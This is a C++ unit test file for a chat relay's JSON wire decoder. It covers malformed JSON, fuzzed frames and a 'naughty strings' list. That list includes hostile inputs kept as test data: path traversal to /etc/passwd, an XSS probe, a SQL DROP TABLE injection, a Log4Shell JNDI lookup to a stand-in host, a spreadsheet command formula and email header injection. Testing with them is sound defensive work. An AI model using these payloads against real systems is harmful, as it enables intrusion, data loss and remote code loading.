// Texts that break software: a few of each class always, the shared data sets when RELAIS_DATA names their folder, and
// random damage to the golden frames.
#include <random>

#include <gtest/gtest.h>

#include "relais/wire/decode.hpp"
#include "relais/wire/encode.hpp"

#include "fixtures.hpp"

namespace relais::wire_test {
namespace {

using wire::Side;

/// Refusals that say "this is JSON": the judgement came after the reading.
bool read_as_json(Refusal why) { return why != Refusal::bad_json; }

struct JsonCase {
    std::string name;
    std::string expect;  // accept, reject, either
    std::string text;
};

std::vector<JsonCase> own_cases() {
    return {{"object", "accept", R"({"a":"b"})"},
            {"escapes", "accept", R"(["\"\\\/\b\f\n\r\t\u00e9\ud83d\ude00"])"},
            {"del", "accept", "[\"\x7f\"]"},
            {"lonely true", "accept", "true"},
            {"minus zero", "accept", "[-0]"},
            {"unclosed", "reject", "[1"},
            {"double comma", "reject", "[1,,2]"},
            {"plus one", "reject", "[+1]"},
            {"raw tab in a string", "reject", "[\"\t\"]"},
            {"comment", "reject", "[1/*x*/]"},
            {"capital true", "reject", "[True]"},
            {"incomplete surrogate escape", "reject", R"(["\uD834\uDd"])"},
            {"form feed as white space", "reject", "[\f]"},
            {"two values", "reject", "1 2"},
            {"utf-16", "either", std::string("[\0\"\0]\0", 6)},
            {"thousands of open brackets", "reject", std::string(100'000, '[')}};
}

std::vector<JsonCase> shared_cases() {
    std::vector<JsonCase> cases;
    const auto path = shared_data("bad-input/json-cases.jsonl");
    if (!path) return cases;
    std::ifstream file(*path);
    for (std::string line; std::getline(file, line);) {
        const Json row = Json::parse(line);
        cases.push_back({row.at("name"), row.at("expect"), from_base64(row.at("b64").get<std::string>())});
    }
    return cases;
}

/// What this protocol refuses although it is JSON (docs/protocol.md, 7).
bool is_stricter_than_json(const std::string& name) {
    for (const char* part : {"duplicated", "null_escape", "escaped_null"}) {
        if (name.find(part) != std::string::npos) return true;
    }
    return false;
}

void judge(const std::vector<JsonCase>& cases) {
    for (const JsonCase& one : cases) {
        SCOPED_TRACE(one.name);
        const auto decoded = wire::decode(one.text, Side::visitor);
        ASSERT_FALSE(decoded.ok()) << "no case is a frame";
        if (one.expect == "reject") {
            EXPECT_FALSE(read_as_json(decoded.error().why)) << code(decoded.error().why);
        }
        if (one.expect == "accept" && !is_stricter_than_json(one.name)) {
            EXPECT_TRUE(read_as_json(decoded.error().why));
        }
    }
}

TEST(WireCorpus, JudgesJsonTextsAsTheStandardDoes) { judge(own_cases()); }

TEST(WireCorpus, JudgesTheSharedJsonTextsAsTheStandardDoes) {
    const std::vector<JsonCase> cases = shared_cases();
    ASSERT_FALSE(cases.empty()) << "RELAIS_DATA names no folder with bad-input/json-cases.jsonl";
    judge(cases);
}

std::vector<std::string> own_strings() {
    return {"",
            " ",
            "undefined",
            "-9223372036854775808/-1",
            "../../../../etc/passwd%00",
            "<script>alert(1)</script>",
            "'; DROP TABLE entry; --",
            "${jndi:ldap://x.example/a}",
            "=cmd|' /C calc'!A0",
            "\x1b[2J\x07",
            "%n%s%x",
            std::string("\u202e\0x", 5),
            "\u200b\ufeff",
            "T\u0315\u0489\u0321o\u0361\u0336",
            "\U0001F468\u200D\U0001F469\u200D\U0001F467\u200D\U0001F466",
            "\U0010FFFF",
            "\u2028\u2029",
            "line\r\nBcc: x@y.example"};
}

/// Accepted as a message and written back, it is the same text; the only refusals are of length.
void passes_unchanged(const std::string& text) {
    const Json frame{{"kind", "post"}, {"n", 1}, {"id", "0190a000-0000-7000-8000-000000000111"}, {"text", text}};
    const auto decoded = wire::decode(frame.dump(), Side::visitor);
    if (!decoded) {
        EXPECT_TRUE(text.empty() || text.find('\0') != std::string::npos) << code(decoded.error().why);
        return;
    }
    Line line;
    line.seq = 1;
    line.body = std::get<PostAsVisitor>(std::get<wire::Order>(decoded.value()).body).text;
    line.author_name = text;
    const Json written = Json::parse(wire::encode_lines(line.conversation, std::span(&line, 1), Side::agent));
    EXPECT_EQ(written.at("entries").at(0).at("body"), text);
}

TEST(WireCorpus, CarriesNaughtyStringsUnchanged) {
    for (const std::string& text : own_strings()) passes_unchanged(text);
}

TEST(WireCorpus, CarriesTheSharedNaughtyStringsUnchanged) {
    const auto path = shared_data("bad-input/naughty-strings.json");
    ASSERT_TRUE(path) << "RELAIS_DATA names no folder with bad-input/naughty-strings.json";
    std::ifstream file(*path);
    for (const Json& text : Json::parse(file)) {
        SCOPED_TRACE(text.dump());
        passes_unchanged(text.get<std::string>());
    }
}

/// One of the usual ways to damage a text.
void damage(std::string& text, std::mt19937_64& chance) {
    const auto below = [&](std::size_t bound) { return bound == 0 ? 0 : static_cast<std::size_t>(chance() % bound); };
    const std::size_t at = below(text.size());
    switch (below(6)) {
        case 0: text.erase(at, below(8)); break;
        case 1: text.insert(at, 1, static_cast<char>(chance())); break;
        case 2: text.insert(at, text.substr(below(text.size()), below(40))); break;
        case 3: text.resize(at); break;
        case 4: text.insert(at, std::string(below(40), "[{\"\\0"[below(5)])); break;
        default:
            if (!text.empty()) text[at] = static_cast<char>(static_cast<unsigned char>(text[at]) ^ (1U << below(8)));
    }
}

TEST(WireCorpus, SurvivesDamagedFramesAndRefusesOnlyByItsOwnCodes) {
    constexpr std::uint64_t seed = 20261122;
    SCOPED_TRACE("seed " + std::to_string(seed));
    std::mt19937_64 chance(seed);
    std::vector<std::string> texts;
    for (const char* file : {"visitor_to_server.json", "agent_to_server.json"}) {
        for (const Json& row : fixture(file)) texts.push_back(row.at("frame").dump());
    }
    for (int round = 0; round < 40'000; ++round) {
        std::string text = texts[chance() % texts.size()];
        for (std::uint64_t hits = 1 + chance() % 4; hits > 0; --hits) damage(text, chance);
        const auto decoded = wire::decode(text, round % 2 == 0 ? Side::visitor : Side::agent);
        if (!decoded) {
            EXPECT_LE(decoded.error().why, Refusal::not_allowed);
            EXPECT_LE(decoded.error().number, std::uint64_t{1} << 53);
        }
    }
}

TEST(WireCorpus, ReadsAnObjectOfThousandsOfKeysInNoTime) {
    std::string text = "{";
    for (int i = 0; i < 6000; ++i) text += "\"k" + std::to_string(i) + "\":0,";
    text += R"("kind":"pong"})";
    EXPECT_EQ(wire::decode(text, Side::visitor).error().why, Refusal::bad_frame);
}

}  // namespace
}  // namespace relais::wire_test
